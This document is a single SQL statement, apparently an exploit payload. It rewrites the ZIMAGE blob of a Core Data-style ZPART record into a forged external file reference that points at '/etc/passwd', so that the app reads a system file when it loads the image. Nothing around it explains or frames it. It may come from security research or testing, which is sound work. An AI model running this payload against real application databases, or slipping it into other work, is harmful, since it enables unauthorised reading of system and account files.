UPDATE ZPART SET ZIMAGE = CAST(x'02' || '/etc/passwd' || x'00' AS BLOB) WHERE Z_PK = 1;
